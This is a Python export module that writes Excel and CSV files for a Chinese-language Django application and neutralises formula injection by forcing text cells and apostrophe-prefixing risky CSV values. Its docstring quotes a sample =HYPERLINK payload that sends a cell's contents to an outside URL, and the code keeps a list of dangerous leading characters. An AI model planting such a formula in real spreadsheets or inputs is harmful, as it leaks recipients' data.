"""Excel workbooks people file or forward: the one place the application writes spreadsheet cells.

``write_xlsx`` is the writer every export uses (``chuangxian.exports``): a caption row with the title
and the time of export, a bold header row frozen under it with an autofilter, columns fitted to their
content (a Chinese character counts double), staff and ID numbers as text, dates as dates,
percentages as numbers with a % format, and the print setup an office expects (A4, landscape when
wide, one page wide, the header row on every page, page numbers in the footer). It uses openpyxl's
write-only mode, so 1,000,000 rows stream through bounded memory: only the first ``SAMPLE_ROWS``
rows are held, to fit the widths.

Formula injection: every string is written as a string cell, never as a formula. openpyxl turns any
str that starts with "=" into a formula (and "#N/A" into an error), so a pledge
``=HYPERLINK("http://…?leak="&B3,"点击查看")`` or a name ``=1+2`` would run when the file is opened
in Excel, WPS or LibreOffice. A string cell shows the text exactly as typed; Excel never evaluates
it, whatever it starts with (=, +, -, @, tab, CR). ``write_csv`` has no cell types, so there a text
that starts with one of those characters gets a leading apostrophe (the OWASP rule for CSV).
Every workbook the application writes goes through ``write_xlsx`` (or, cell by cell, ``text_cell``).
"""

import contextlib
import csv
import io
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from enum import StrEnum
from itertools import islice
from typing import IO, TYPE_CHECKING, Any

from django.utils import timezone
from django.utils.functional import Promise

if TYPE_CHECKING:
    from openpyxl.cell import Cell


def text_cell(cell: "Cell") -> "Cell":
    """Store the cell's str value as a string, never as a formula or an error code.

    openpyxl types a str by its look ("=..." becomes a formula, "#N/A" an error); this undoes that so
    user text is shown, and kept, exactly as it was typed. Other values (numbers, dates) are left alone.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


# --- The export writer -------------------------------------------------------------------------


class Kind(StrEnum):
    """What a column holds, so the cell gets the right type and format."""

    TEXT = "text"
    ID = "id"  # staff numbers, ID-card numbers, phone numbers: text, leading zeros kept
    DATE = "date"
    DATETIME = "datetime"
    NUMBER = "number"
    PERCENT = "percent"  # given as a percentage (85.5), written as the number 0.855 with a % format


@dataclass(frozen=True)
class Column:
    header: "str | Promise"  # a lazy translation is fine: written as str
    kind: Kind = Kind.TEXT
    width: int = 40  # the widest the column is fitted to, in characters (a CJK character is 2)
    wrap: bool = False  # long text (a pledge, a comment): wrap it and align the row to the top
    # A template's drop-down (``Table.blank_rows``): inline, only its values; or on the hidden sheet
    # ``choices_sheet`` (a long list: the tenant's units), any value may still be typed.
    choices: Sequence[str] = ()
    choices_sheet: str = ""


@dataclass
class Table:
    """One sheet: its Chinese name, its columns, its rows (any iterable: a generator streams)."""

    title: "str | Promise"
    columns: Sequence[Column]
    rows: Iterable[Sequence[Any]]
    caption: str = ""
    heading: bool = True  # the caption row above the header; False: the header is row 1 (a template)
    blank_rows: int = 0  # rows under the data to fill in: they get the columns' formats and drop-downs


SAMPLE_ROWS = 100  # rows held back to fit the column widths before the sheet streams
PROGRESS_EVERY = 1000
LANDSCAPE_WIDTH = 95  # total width (characters) above which the sheet prints landscape
# Formats set on the cell; dates get openpyxl's own (yyyy-mm-dd, yyyy-mm-dd h:mm:ss) without a
# per-cell style, which keeps a million rows fast.
NUMBER_FORMATS = {
    Kind.ID: "@",
    Kind.PERCENT: "0.0%",
}
# A column's own format (a template's blank rows: what is typed or pasted in takes it).
COLUMN_FORMATS = {**NUMBER_FORMATS, Kind.DATE: "yyyy-mm-dd", Kind.DATETIME: "yyyy-mm-dd hh:mm"}
# Values openpyxl would not store as plain strings: formulas and error codes.
_ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
CSV_DANGER = ("=", "+", "-", "@", "\t", "\r")


def display_width(value: Any) -> int:
    """Characters a value takes in a cell: East Asian wide and full-width characters count double."""
    text = value if isinstance(value, str) else format_plain(value)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def format_plain(value: Any) -> str:
    """A value as text (CSV, width fitting): dates ISO, None empty."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return (
            timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
            if timezone.is_aware(value)
            else (value.strftime("%Y-%m-%d %H:%M"))
        )
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _to_text(value: Any) -> Any:
    return None if value is None or value == "" else str(value)


def _to_date(value: Any) -> Any:
    if value == "":
        return None
    if isinstance(value, datetime):
        return (timezone.localtime(value) if timezone.is_aware(value) else value).date()
    return value


def _to_datetime(value: Any) -> Any:
    """Excel has no time zones: the local wall time, as people read it on the page."""
    if value == "":
        return None
    if isinstance(value, datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, date):
        return datetime(value.year, value.month, value.day)
    return value


def _to_fraction(value: Any) -> Any:
    if value == "":
        return None
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return float(value) / 100
    return value


# How a column's values are converted before they are written (None: as they are; openpyxl stores
# int, float and Decimal as numbers and dates with a date format of its own).
CONVERTERS: dict[Kind, Callable[[Any], Any] | None] = {
    Kind.TEXT: None,
    Kind.ID: _to_text,
    Kind.DATE: _to_date,
    Kind.DATETIME: _to_datetime,
    Kind.NUMBER: None,
    Kind.PERCENT: _to_fraction,
}


def _convert(kind: Kind, value: Any) -> Any:
    """The value a cell of ``kind`` stores."""
    convert = CONVERTERS[kind]
    return value if convert is None else convert(value)


def write_xlsx(
    target: IO[bytes] | str,
    tables: Sequence[Table],
    *,
    exported_at: datetime,
    progress: Callable[[int], None] | None = None,
) -> int:
    """Write ``tables`` as an .xlsx workbook to ``target`` (a path or a binary file); returns the
    number of data rows. ``progress(rows_done)`` is called every ``PROGRESS_EVERY`` rows."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    caption_font = Font(bold=True, size=13)
    bold = Font(bold=True)
    wrapped = Alignment(wrap_text=True, vertical="top")
    stamp = format_plain(exported_at)
    done = 0
    try:
        for table in tables:
            sheet = workbook.create_sheet(title=_sheet_title(str(table.title)))
            columns = list(table.columns)
            letters = [get_column_letter(i) for i in range(1, len(columns) + 1)]
            rows = iter(table.rows)
            sample = [list(r) for r in islice(rows, SAMPLE_ROWS)]
            widths = [float(c.width) for c in columns] if table.blank_rows else _fit_widths(columns, sample)
            for letter, width, column in zip(letters, widths, columns, strict=True):
                sheet.column_dimensions[letter].width = width
                if table.blank_rows and column.kind in COLUMN_FORMATS:
                    sheet.column_dimensions[letter].number_format = COLUMN_FORMATS[column.kind]
            header_row = 2 if table.heading else 1
            _print_setup(sheet, header_row=header_row, total_width=sum(widths))

            if table.heading:
                caption = f"{table.caption or table.title}（导出时间：{stamp}）"
                cell = text_cell(WriteOnlyCell(sheet, value=caption))
                cell.font = caption_font
                sheet.append([cell])
            header = []
            for column in columns:
                cell = text_cell(WriteOnlyCell(sheet, value=str(column.header)))
                cell.font = bold
                header.append(cell)
            sheet.append(header)

            # One prototype cell per column that needs a style; data cells copy its style array.
            protos: list[Any] = []
            for column in columns:
                proto = None
                if column.kind in NUMBER_FORMATS or column.wrap:
                    proto = WriteOnlyCell(sheet)
                    if column.kind in NUMBER_FORMATS:
                        proto.number_format = NUMBER_FORMATS[column.kind]
                    if column.wrap:
                        proto.alignment = wrapped
                protos.append(proto)
            converters = [CONVERTERS[c.kind] for c in columns]
            count = 0
            for row in _chain(sample, rows):
                sheet.append(_row_cells(sheet, row, converters, protos, WriteOnlyCell))
                count += 1
                done += 1
                if progress is not None and done % PROGRESS_EVERY == 0:
                    progress(done)
            if letters:
                sheet.auto_filter.ref = f"A{header_row}:{letters[-1]}{count + header_row}"
            last = header_row + count + table.blank_rows
            for letter, column in zip(letters, columns, strict=True):
                if column.choices and last > header_row:
                    _add_choices(workbook, sheet, column, f"{letter}{header_row + 1}:{letter}{last}")
    except BaseException:
        _abandon(workbook)  # a failed row source: close the sheet streams, delete their temp files
        raise
    if not tables:
        workbook.create_sheet(title="Sheet1")
    workbook.save(target)
    if progress is not None:
        progress(done)
    return done


def _abandon(workbook: Any) -> None:
    """Close the sheets' half-written streams and delete their temporary files (already failing:
    the original error is the one raised)."""
    for sheet in workbook.worksheets:
        writer = getattr(sheet, "_writer", None)
        if writer is None:
            continue
        with contextlib.suppress(Exception):
            sheet.close()
        with contextlib.suppress(Exception):
            writer.cleanup()


def _row_cells(
    sheet: Any, row: Sequence[Any], converters: list[Any], protos: list[Any], make: Any
) -> list[Any]:
    """One row's values for ``sheet.append``: plain values where openpyxl types them right, cells
    where a style is needed or a text would otherwise become a formula or an error code. Hot: a
    million rows go through here."""
    out: list[Any] = []
    for value, convert, proto in zip(row, converters, protos, strict=False):
        if convert is not None:
            value = convert(value)
        if value is None:
            out.append(None)
        elif proto is not None:
            cell = make(sheet, value=value)
            cell._style = proto._style  # shared on purpose: the writer only reads it
            if type(value) is str:
                cell.data_type = "s"
            out.append(cell)
        elif type(value) is str and (value[:1] == "=" or value in _ERROR_CODES):
            cell = make(sheet, value=value)
            cell.data_type = "s"  # text, never a formula or an error code
            out.append(cell)
        else:
            out.append(value)
    return out


def _chain(first: list[list[Any]], rest: Iterator[Sequence[Any]]) -> Iterator[Sequence[Any]]:
    yield from first
    yield from rest


def _add_choices(workbook: Any, sheet: Any, column: Column, cells: str) -> None:
    """A drop-down of ``column.choices`` on ``cells`` (a hidden sheet's values are text cells)."""
    from django.utils.translation import gettext as _
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import quote_sheetname
    from openpyxl.worksheet.datavalidation import DataValidation

    validation = DataValidation(type="list", allow_blank=True, showErrorMessage=not column.choices_sheet)
    if column.choices_sheet:
        hidden = workbook.create_sheet(title=_sheet_title(column.choices_sheet))
        hidden.sheet_state = "hidden"
        for value in column.choices:
            hidden.append([text_cell(WriteOnlyCell(hidden, value=str(value)))])
        validation.formula1 = f"{quote_sheetname(hidden.title)}!$A$1:$A${len(column.choices)}"
    else:
        validation.formula1 = '"' + ",".join(column.choices) + '"'
        validation.errorTitle = _("取值不对")
        validation.error = _("请从下拉列表中选择：%(values)s") % {"values": "、".join(column.choices)}
    validation.add(cells)
    sheet.data_validations.append(validation)


def _sheet_title(title: str) -> str:
    """Excel's rules for a sheet name: at most 31 characters, none of \\ / ? * [ ] :."""
    for ch in "\\/?*[]:":
        title = title.replace(ch, "－")
    return title[:31] or "Sheet1"


def _fit_widths(columns: Sequence[Column], sample: list[list[Any]]) -> list[float]:
    widths = []
    for index, column in enumerate(columns):
        widest = display_width(str(column.header))
        for row in sample:
            if index < len(row):
                value = _convert(column.kind, row[index])
                if column.kind is Kind.PERCENT and isinstance(value, float):
                    shown: Any = f"{value:.1%}"
                elif column.kind is Kind.DATE:
                    shown = "2000-01-01"
                elif column.kind is Kind.DATETIME:
                    shown = "2000-01-01 00:00"
                else:
                    shown = value
                widest = max(widest, display_width(shown))
        widths.append(float(min(max(widest + 2, 6), max(column.width, 6))))
    return widths


def _print_setup(sheet: Any, *, header_row: int, total_width: float) -> None:
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.print_title_rows = f"{header_row}:{header_row}"
    setup = sheet.page_setup
    setup.paperSize = 9  # A4
    setup.orientation = "landscape" if total_width > LANDSCAPE_WIDTH else "portrait"
    setup.fitToWidth = 1
    setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.print_options.horizontalCentered = True
    sheet.oddFooter.center.text = "第 &P 页，共 &N 页"
    sheet.evenFooter.center.text = "第 &P 页，共 &N 页"


def write_csv(
    target: IO[bytes],
    table: Table,
    *,
    progress: Callable[[int], None] | None = None,
) -> int:
    """One table as CSV, UTF-8 with a byte-order mark (so Excel and WPS read the Chinese), header
    first; text that a spreadsheet would evaluate gets a leading apostrophe."""
    text = io.TextIOWrapper(target, encoding="utf-8-sig", newline="", write_through=True)
    writer = csv.writer(text)
    writer.writerow([str(column.header) for column in table.columns])
    kinds = [c.kind for c in table.columns]
    done = 0
    for row in table.rows:
        writer.writerow([_csv_value(kinds[i] if i < len(kinds) else Kind.TEXT, v) for i, v in enumerate(row)])
        done += 1
        if progress is not None and done % PROGRESS_EVERY == 0:
            progress(done)
    text.flush()
    text.detach()
    if progress is not None:
        progress(done)
    return done


def _csv_value(kind: Kind, value: Any) -> str:
    if kind is Kind.PERCENT and isinstance(value, int | float | Decimal):
        return f"{float(value):.1f}%"
    text = format_plain(value)
    if text.startswith(CSV_DANGER):
        return "'" + text
    return text
